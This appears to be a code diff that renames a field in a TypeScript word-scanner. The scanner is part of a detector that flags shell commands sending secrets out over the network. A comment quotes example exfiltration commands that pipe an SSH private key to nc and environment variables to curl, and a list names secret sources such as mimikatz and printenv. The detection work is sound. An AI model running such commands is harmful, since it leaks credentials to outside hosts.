@@ -143,7 +143,7 @@ const SOURCES = new Set(['printenv', 'get-secret-value', 'mimikatz', 'pg_dump', 
 class Words {
   private readonly lower: string
   private readonly begins: number[] = []
-  private readonly ends: number[] = []
+  private readonly endOffsets: number[] = []
   private readonly sources: (Source | undefined)[] = []
 
   constructor(lower: string) {
@@ -154,15 +154,15 @@ class Words {
       while (at < length && !isBetweenWords(lower.charCodeAt(at))) at++
       if (at === from) continue
       this.begins.push(from)
-      this.ends.push(at)
+      this.endOffsets.push(at)
       this.sources.push(undefined)
     }
   }
 
   /** `cat ~/.ssh/id_rsa | nc host 9`, `env | curl -d @- host`: a source of secrets before the pipe into the network. */
   holdSource(from: number, to: number): boolean {
-    const { begins, ends } = this
-    const first = firstPlace(ends.length, (at) => ends[at]! > from)
+    const { begins, endOffsets } = this
+    const first = firstPlace(endOffsets.length, (at) => endOffsets[at]! > from)
     for (let at = first; at < begins.length && begins[at]! < to; at++) {
       const source = this.sourceAt(at, from, to)
       if (source === 'always' || (source === 'first' && at === first)) return true
@@ -172,7 +172,7 @@ class Words {
   }
 
   private sourceAt(at: number, from: number, to: number): Source {
-    const [begin, end] = [this.begins[at] as number, this.ends[at] as number]
+    const [begin, end] = [this.begins[at] as number, this.endOffsets[at] as number]
     if (begin < from || end > to) return sourceOf(this.lower.slice(Math.max(begin, from), Math.min(end, to)))
     const source = this.sources[at] ?? sourceOf(this.lower.slice(begin, end))
     this.sources[at] = source
@@ -181,7 +181,7 @@ class Words {
 
   private isBehindGet(at: number, first: number, from: number): boolean {
     for (let before = first; before < at; before++)
-      if (this.lower.slice(Math.max(this.begins[before]!, from), this.ends[before]) === 'get') return true
+      if (this.lower.slice(Math.max(this.begins[before]!, from), this.endOffsets[before]) === 'get') return true
     return false
   }
 }
